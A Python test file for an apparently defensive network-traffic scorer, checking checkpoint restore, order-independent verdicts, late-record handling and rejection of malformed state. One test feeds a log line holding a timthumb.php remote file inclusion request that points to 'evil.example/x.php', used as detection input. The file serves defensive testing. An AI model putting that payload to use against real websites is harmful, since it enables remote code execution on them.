"""A scorer that was saved and restored, or fed in another order, says exactly what an undisturbed one says."""

import json
import random
from collections.abc import Iterable
from dataclasses import replace
from typing import Any

import msgspec
import pytest

from controller.domain.address import subject_of
from controller.domain.errors import BadInput
from controller.domain.rulebook import Rulebook, Scoring
from controller.domain.verdict import Level, Verdict
from controller.domain.wire import DecisionNote
from streams import keys
from tests.streams.test_scenarios import FULL, background, complaint, fragments
from tests.streams.world import (
    EDGE,
    LOGS,
    SECOND,
    SHARED_IF,
    START,
    TICK,
    Bench,
    flood,
    frame,
    mac,
    of,
    record,
    warm,
    warm_state,
)

END = START + 12 * SECOND


def busy() -> list[dict[str, Any]]:
    """Everything at once: a flood, fragments, a forged source, lasting flows and IPv6."""
    forged = [
        record(START + tick * TICK + number, f"192.0.2.{number}", in_if=SHARED_IF, src_mac=mac(51), packets=30)
        for tick in range(30)
        for number in range(60)
    ]
    lasting = [
        record(START + 3 * SECOND, "198.18.1.2", sampler_address="10.0.0.2", in_if=2, src_mac=mac(102), packets=90_000,
               bytes=90_000 * 1200, time_flow_start_ns=START - 2 * SECOND, time_flow_end_ns=START + 3 * SECOND)
    ]  # fmt: skip
    six = [
        record(START + tick * TICK, "2001:db8:1:3::77", dst="2001:db8:f::1", in_if=3, src_mac=mac(3), packets=4000)
        for tick in range(20)
    ]
    return [*background(8), *flood("198.18.0.7"), *fragments("198.18.2.1"), *forged, *lasting, *six]


def steps(records: Iterable[dict[str, Any]]) -> list[list[dict[str, Any]]]:
    found: dict[int, list[dict[str, Any]]] = {}
    for one in records:
        found.setdefault((one["time_received_ns"] - START) // TICK, []).append(one)
    return [found.get(step, []) for step in range((END - START) // TICK)]


def play(bench: Bench, chosen: range, parts: list[list[dict[str, Any]]]) -> list[Verdict]:
    said: list[Verdict] = []
    for step in chosen:
        if step == 2:
            bench.feed(complaint(FULL), source=LOGS, origin="logs/0", kafka_ns=START + step * TICK + 1)
            for scorer in bench.scorers:
                scorer.watch(DecisionNote("d1", "host:198.18.0.4", "applying", START))
        if parts[step]:
            bench.feed(frame(parts[step]), kafka_ns=START + step * TICK)
        said += bench.mark(START + (step + 1) * TICK)
    return said


@pytest.mark.parametrize("cut", [1, 7, 13, 22, 40])
def test_restored_scorer_goes_on_as_the_one_that_was_saved(cut: int) -> None:
    parts = steps(busy())
    bench = warm()
    play(bench, range(cut), parts)
    # Half of a tick is heard when the checkpoint is taken.
    half = parts[cut][::2]
    bench.feed(frame(half), kafka_ns=START + cut * TICK)
    parts[cut] = parts[cut][1::2]
    saved = bench.saved()
    other = Bench().become(saved)
    assert [scorer.meta() for scorer in other.scorers] == [meta for _, meta in saved]
    expected = play(bench, range(cut, len(parts)), [list(part) for part in parts])
    assert play(other, range(cut, len(parts)), parts) == expected
    assert [scorer.meta() for scorer in other.scorers] == [scorer.meta() for scorer in bench.scorers]
    assert [scorer.changed() for scorer in other.scorers] == [scorer.changed() for scorer in bench.scorers]
    assert any(verdict.level is Level.ISOLATE for verdict in expected) or cut == 40


def test_checkpoints_of_changed_buckets_add_up_to_the_whole() -> None:
    parts = steps(busy())
    bench = warm()
    kept = [dict(buckets) for buckets, _ in warm_state()]
    for first in range(0, len(parts), 9):
        play(bench, range(first, min(first + 9, len(parts))), parts)
        for buckets, scorer in zip(kept, bench.scorers, strict=True):
            buckets |= dict(scorer.changed())
    other = Bench().become(
        [(list(buckets.items()), scorer.meta()) for buckets, scorer in zip(kept, bench.scorers, strict=True)]
    )
    later = flood("198.18.0.9", begin_ns=END)
    assert other.run(later, until_ns=END + 5 * SECOND) == bench.run(later, until_ns=END + 5 * SECOND)


def test_nothing_is_said_to_have_changed_when_nothing_did() -> None:
    bench = warm()
    assert [scorer.changed() for scorer in bench.scorers] == [[], []]


@pytest.mark.parametrize("seed", range(4))
def test_verdicts_do_not_depend_on_how_partitions_and_frames_interleave(seed: int) -> None:
    draw = random.Random(seed)
    parts = steps(busy())
    plain = play(warm(), range(len(parts)), parts)
    bench = warm()
    said: list[Verdict] = []
    for step, part in enumerate(parts):
        if step == 2:
            bench.feed(complaint(FULL), source=LOGS, origin="logs/0", kafka_ns=START + step * TICK + 1)
            for scorer in bench.scorers:
                scorer.watch(DecisionNote("d1", "host:198.18.0.4", "applying", START))
        mixed = draw.sample(part, len(part))
        cut = draw.randrange(len(mixed) + 1)
        for origin, some in (("flows/0", mixed[:cut]), ("flows/1", mixed[cut:])):
            if some:
                bench.feed(frame(some), origin=origin, kafka_ns=START + step * TICK)
        for origin in draw.sample(bench.inputs, 3):
            for scorer in bench.scorers:
                said += scorer.mark(origin, START + (step + 1) * TICK)
    assert sorted(said, key=lambda one: one.id) == sorted(plain, key=lambda one: one.id)


def test_marks_that_jump_say_the_same_as_marks_that_walk() -> None:
    walking, jumping = warm(), warm()
    records = [*flood("198.18.0.7", seconds=2)]
    walking.run(records, until_ns=START + 30 * SECOND)
    for part in steps(records):
        if part:
            jumping.feed(frame(part), kafka_ns=START)
    jumping.mark(START + 30 * SECOND)
    assert sorted(jumping.verdicts, key=lambda one: one.id) == sorted(walking.verdicts, key=lambda one: one.id)


def test_tick_waits_for_the_mark_of_every_input() -> None:
    bench = warm()
    bench.feed(frame(flood("198.18.0.7", seconds=1)), kafka_ns=START)
    scorer = bench.scorers[keys.bucket_of(keys.key_of_subject(subject_of("198.18.0.7")), 4096) % 2]
    assert scorer.mark("flows/0", START + SECOND) == []
    assert scorer.mark("logs/0", START + SECOND) == []
    assert scorer.mark("flows/1", START + SECOND) != []
    assert scorer.event_ns == START + SECOND


def test_late_records_are_evidence_are_counted_and_teach_no_baseline() -> None:
    bench = warm()
    bench.mark(START + 20 * SECOND)
    late = flood("198.18.0.7", begin_ns=START, seconds=1)
    bench.feed(frame(late), kafka_ns=START + 20 * SECOND)
    verdicts = bench.mark(START + 40 * SECOND)
    assert of(verdicts, "198.18.0.7")[0].level is Level.ISOLATE
    assert sum(scorer.counts()["flows"]["late"] for scorer in bench.scorers) == len(late)
    small = warm()
    small.mark(START + 20 * SECOND)
    small.feed(
        frame([record(START, "198.18.0.7", bytes=10**6, packets=1000, time_flow_start_ns=START - 60 * SECOND)]),
        kafka_ns=START + 20 * SECOND,
    )
    small.mark(START + 200 * SECOND)
    fresh = warm()
    fresh.mark(START + 200 * SECOND)
    place = small.scorers[keys.bucket_of(keys.key_of_subject(subject_of("198.18.0.7")), 4096) % 2]
    other = fresh.scorers[small.scorers.index(place)]
    assert _baseline(place) == _baseline(other)


def _baseline(scorer: Any) -> Any:
    subjects = scorer._subjects
    [slot] = subjects.known([keys.key_of_subject(subject_of("198.18.0.7"))]).tolist()
    return subjects.baselines.mean[slot].tolist(), int(subjects.baselines.windows[slot])


def test_record_is_late_by_its_own_partition_alone() -> None:
    bench = warm()
    for scorer in bench.scorers:
        scorer.mark("flows/0", START + 2 * SECOND)
    one = [record(START + SECOND, "198.18.0.7")]
    bench.feed(frame(one), origin="flows/1", kafka_ns=START)
    assert sum(scorer.counts()["flows"]["late"] for scorer in bench.scorers) == 0
    bench.feed(frame(one), origin="flows/0", kafka_ns=START)
    assert sum(scorer.counts()["flows"]["late"] for scorer in bench.scorers) == 1


def test_the_longest_idle_are_forgotten_first() -> None:
    rules = Rulebook(1, scoring=replace(Scoring(), max_hosts=20))
    bench = Bench(rules=rules)
    bench.run(
        [record(START + n * SECOND, f"198.18.9.{n}", in_if=0) for n in range(1, 60)], until_ns=START + 200 * SECOND
    )
    known = [scorer._subjects for scorer in bench.scorers]
    left = sorted(key[15] for subjects in known for key in subjects.keys(subjects.held()).tolist())
    assert len(left) <= 20
    assert min(left) > 30


@pytest.mark.parametrize("raw", [b"x", b"", b"\x78\x9c\x03\x00\x00\x00\x00\x01"])
def test_state_that_is_none_is_refused(raw: bytes) -> None:
    bench = warm()
    with pytest.raises(BadInput):
        bench.scorers[0].restore([], raw)
    with pytest.raises(BadInput):
        bench.scorers[0].restore([(1, raw)], bench.scorers[0].meta())


def test_what_was_only_accused_by_a_log_is_saved_without_any_traffic() -> None:
    bench = Bench()
    line = '203.0.113.9 - - [x] "GET /a/timthumb.php?src=http://evil.example/x.php HTTP/1.1" 200 1'
    said = json.dumps({"message": line, "fromhost-ip": "198.18.0.20"}).encode()
    bench.feed(said, source=LOGS, origin="logs/0", kafka_ns=START + 1)
    bench.mark(START + SECOND)
    for scorer in bench.scorers:
        saved, meta = scorer.changed(), scorer.meta()
        other = bench.scorer(0)
        other.restore(saved, meta)
        assert [key for key, _ in other.changed()] == []
        assert other.meta() == meta
    assert any(scorer._register.standings for scorer in bench.scorers)


def test_bucket_that_does_not_hang_together_is_refused() -> None:
    bench = warm()
    play(bench, range(4), steps(busy()))
    bucket, raw = bench.scorers[0].changed()[0]
    version, layout, lengths, rows, names, standings = msgspec.msgpack.decode(raw)
    assert names
    assert all(rows)
    for amiss in (
        [version - 1, layout, lengths, rows, names, standings],
        [version, layout[:3], lengths, rows, names, standings],
        [version, [*layout[:1], layout[0], *layout[2:]], lengths, rows, names, standings],
        [version, layout, [lengths[0] + 1, *lengths[1:]], rows, names, standings],
        [version, layout, lengths, [rows[0][:-1], *rows[1:]], names, standings],
        [version, layout, lengths, rows, names[1:], standings],
    ):
        with pytest.raises(BadInput):
            bench.scorers[0].restore([(bucket, msgspec.msgpack.encode(amiss))], bench.scorers[0].meta())


@pytest.mark.parametrize("body", [b"x", b"C\x01\x00", b"C\x02\x00abc", b"C\x01\x01zz"])
def test_body_that_no_combiner_wrote_is_refused(body: bytes) -> None:
    with pytest.raises(BadInput):
        warm().scorers[0].apply(body)


def test_empty_body_does_nothing() -> None:
    scorer = warm().scorers[0]
    before = scorer.meta()
    scorer.apply(b"")
    assert scorer.meta() == before
    assert EDGE not in scorer.silent()
